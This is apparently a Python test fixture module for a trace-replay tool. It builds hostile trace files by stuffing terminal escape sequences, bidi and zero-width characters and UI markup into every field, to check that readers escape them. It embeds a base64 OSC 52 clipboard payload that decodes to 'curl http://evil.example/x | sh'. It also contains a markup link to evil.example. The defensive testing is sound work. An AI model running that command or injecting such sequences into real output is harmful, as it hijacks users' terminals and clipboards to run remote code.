"""Hostile traces: real traces edited by hand, as an attacker would, so that every field
holds every character a terminal acts on instead of showing.

`CHARACTER_CLASSES` lists what an attacker writes (one line per class: the raw text and
how it must be shown); `FIELDS` lists where (one line per field: an edit of the parsed
trace). `hostile_trace` writes the bundled incident with every field of `FIELDS` set to
`hostile(field)` (the field's tag, then every class), and then fixes the trace up so
that it reads as valid (`complete`: new fingerprints, count and digest), or leaves it
without a footer (`incomplete`: each fingerprint checked on its own), or leaves the
old digest (`tampered`: every reader refuses it, and says so).

`unsafe_characters(output)` is the test's own, independent check of what a command
printed: every control, format, surrogate and separator character of the running
Python's Unicode tables, other than newline and tab.
"""

from __future__ import annotations

import hashlib
import json
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal

import toolreplay

ROOT = Path(__file__).resolve().parents[2]
INCIDENT = ROOT / "examples" / "incident" / "refund.trp"

CLIPBOARD = "Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA=="
"""`curl http://evil.example/x | sh`, base64, as an OSC 52 clipboard write carries it."""

CHARACTER_CLASSES: dict[str, tuple[str, str]] = {
    # class: (what the trace holds, what a person must see instead)
    "CSI clear screen": ("\x1b[2J", "\\u001b[2J"),
    "OSC 0 window title": ("\x1b]0;pwned\x07", "\\u001b]0;pwned\\u0007"),
    "OSC 52 clipboard": (f"\x1b]52;c;{CLIPBOARD}\x07", f"\\u001b]52;c;{CLIPBOARD}\\u0007"),
    "C1 CSI": ("\u009b31m", "\\u009b31m"),
    "DEL": ("\x7f", "\\u007f"),
    "BEL": ("\x07", "\\u0007"),
    "NUL": ("\x00", "\\u0000"),
    "carriage return, backspace": ("\r\x08", "\\u000d\\u0008"),
    "bidi override U+202E": ("\u202e", "\\u202e"),
    "bidi isolate U+2067": ("\u2067", "\\u2067"),
    "zero-width space U+200B": ("\u200b", "\\u200b"),
    "byte order mark U+FEFF": ("\ufeff", "\\ufeff"),
    "soft hyphen U+00AD": ("\u00ad", "\\u00ad"),
    "line separator U+2028": ("\u2028", "\\u2028"),
    "tag characters": ("\U000e0070\U000e0077", "\\udb40\\udc70\\udb40\\udc77"),
    "Rich markup": ("[red]r[/red][link=https://evil.example/x]l[/link]", "[red]r[/red][link="),
    "Textual action markup": ("[@click=app.quit]q[/]", "[@click=app.quit]q[/]"),
}

PAYLOAD = "".join(raw for raw, _ in CHARACTER_CLASSES.values())
SHOWN = "".join(shown for _, shown in CHARACTER_CLASSES.values())
"""How `PAYLOAD` must read once escaped (the markup classes end where the rest follows)."""


def hostile(name: str) -> str:
    """What the field `name` holds: its tag, then every character class."""
    return f"<{name}>{PAYLOAD}"


def shown(name: str) -> str:
    """The start of `hostile(name)` as a person must see it, up to the markup."""
    before_markup = "".join(
        escaped for cls, (_, escaped) in CHARACTER_CLASSES.items() if "markup" not in cls
    )
    return f"<{name}>{before_markup}"


@dataclass
class EditableTrace:
    """A trace's lines, parsed, for editing: the header, the operations, the footer."""

    header: dict[str, Any]
    operations: list[dict[str, Any]]
    footer: dict[str, Any] | None = field(default=None)

    @classmethod
    def read(cls, path: Path) -> EditableTrace:
        header, *rest = (json.loads(line) for line in path.read_bytes().splitlines())
        footer = rest.pop() if rest and rest[-1]["kind"] == "footer" else None
        return cls(header, rest, footer)

    def write(self, path: Path, state: Literal["complete", "incomplete", "tampered"]) -> Path:
        """Write the lines as the writer encodes them; fix fingerprints up, and for a
        `complete` trace the footer's count and digest (a `tampered` one keeps them)."""
        for operation in self.operations:
            operation["fingerprint"] = toolreplay.fingerprint(operation["inputs"])
        attempted = (self.footer or {}).get("attempted")
        if attempted is not None:
            attempted["fingerprint"] = toolreplay.fingerprint(attempted["inputs"])
        body = b"".join(_line(line) for line in [self.header, *self.operations])
        if state == "incomplete" or self.footer is None:
            path.write_bytes(body)
            return path
        if state == "complete":
            self.footer["operation_count"] = len(self.operations)
            self.footer["digest"] = hashlib.sha256(body).hexdigest()
        path.write_bytes(body + _line(self.footer))
        return path


def _line(document: dict[str, Any]) -> bytes:
    # The trace writer's encoding (RFC 0003 §1.2): no ASCII escaping, no spaces.
    return json.dumps(document, ensure_ascii=False, separators=(",", ":")).encode() + b"\n"


def _raise(trace: EditableTrace, **error: str) -> None:
    outcome = trace.operations[3]["outcome"]
    if outcome.get("status") != "error":
        outcome.clear()
        outcome.update(status="error", error={"type": "X", "message": "x", "args": ["x"]})
    for key, value in error.items():
        outcome["error"][key] = [value] if key == "args" else value


def _ending(trace: EditableTrace, **ending: str) -> None:
    assert trace.footer is not None
    trace.footer["ending"].update(status="raised", **ending)


def _attempted(trace: EditableTrace, key: str, value: str) -> None:
    assert trace.footer is not None
    attempted = trace.footer["attempted"] or {
        "namespace": "review",
        "name": "queue.add",
        "fingerprint": "",
        "occurrence": 0,
        "inputs": {"order_id": "ord_1042"},
    }
    if key == "inputs":
        attempted["inputs"]["reason"] = value
    else:
        attempted[key] = value
    trace.footer["attempted"] = attempted


def _patched(trace: EditableTrace, value: str) -> None:
    trace.operations[4].update(origin="patched", patch_id=value, source_logical_operation_id=4)


Edit = Callable[[EditableTrace, str], None]
FIELDS: dict[str, Edit] = {
    # field: how an attacker puts `value` there (one line each)
    "effect-namespace": lambda t, v: t.operations[0].update(namespace=v),
    "effect-name": lambda t, v: t.operations[1].update(name=v),
    "input-key": lambda t, v: t.operations[0]["inputs"].update({v: 1}),
    "input-value": lambda t, v: t.operations[1]["inputs"].update(region=v),
    "output-key": lambda t, v: t.operations[0]["outcome"]["value"].update({v: True}),
    "output-value": lambda t, v: t.operations[0]["outcome"]["value"].update(name=v),
    "error-type": lambda t, v: _raise(t, type=v),
    "error-message": lambda t, v: _raise(t, message=v),
    "error-args": lambda t, v: _raise(t, args=v),
    "lane": lambda t, v: t.operations[4].update(lane=v),
    "patch-id": _patched,
    "trace-id": lambda t, v: t.header.update(trace_id=v),
    "library-version": lambda t, v: t.header.update(library_version=v),
    "source-trace-id": lambda t, v: t.header.update(source_trace_id=v),
    "runner": lambda t, v: t.header["metadata"].update(runner=v),
    "metadata-key": lambda t, v: t.header["metadata"].update({v: "value"}),
    "metadata-value": lambda t, v: t.header["metadata"].update(request_id=v),
    "capture-metadata": lambda t, v: t.header["metadata"].update(capture={"name": v}),
    "ending-error-type": lambda t, v: _ending(t, error_type=v),
    "ending-message": lambda t, v: _ending(t, message=v),
    "attempted-effect": lambda t, v: _attempted(t, "name", v),
    "attempted-input": lambda t, v: _attempted(t, "inputs", v),
}

FILE_NAME = f"<file-name>{PAYLOAD.replace('/', '').replace(chr(0), '')}.trp"
"""A trace's file name holding every class a file name can (no `/`, no NUL)."""


def hostile_trace(
    path: Path,
    state: Literal["complete", "incomplete", "tampered"] = "complete",
    *,
    source: Path = INCIDENT,
    fields: dict[str, Edit] | None = None,
) -> Path:
    """`source` with every field of `fields` (default: all) holding `hostile(field)`."""
    trace = EditableTrace.read(source)
    for name, edit in (FIELDS if fields is None else fields).items():
        edit(trace, hostile(name))
    return trace.write(path, state)


_UNSAFE_CATEGORIES = {"Cc", "Cf", "Cs", "Zl", "Zp"}


def unsafe_characters(output: str | bytes) -> list[str]:
    """Every character of `output` a terminal could act on (not newline and tab), by
    the running Python's own Unicode tables: what no output may hold."""
    text = output.decode("utf-8", "surrogateescape") if isinstance(output, bytes) else output
    return sorted(
        {
            f"U+{ord(char):04X}"
            for char in text
            if unicodedata.category(char) in _UNSAFE_CATEGORIES and char not in "\n\t"
        }
    )
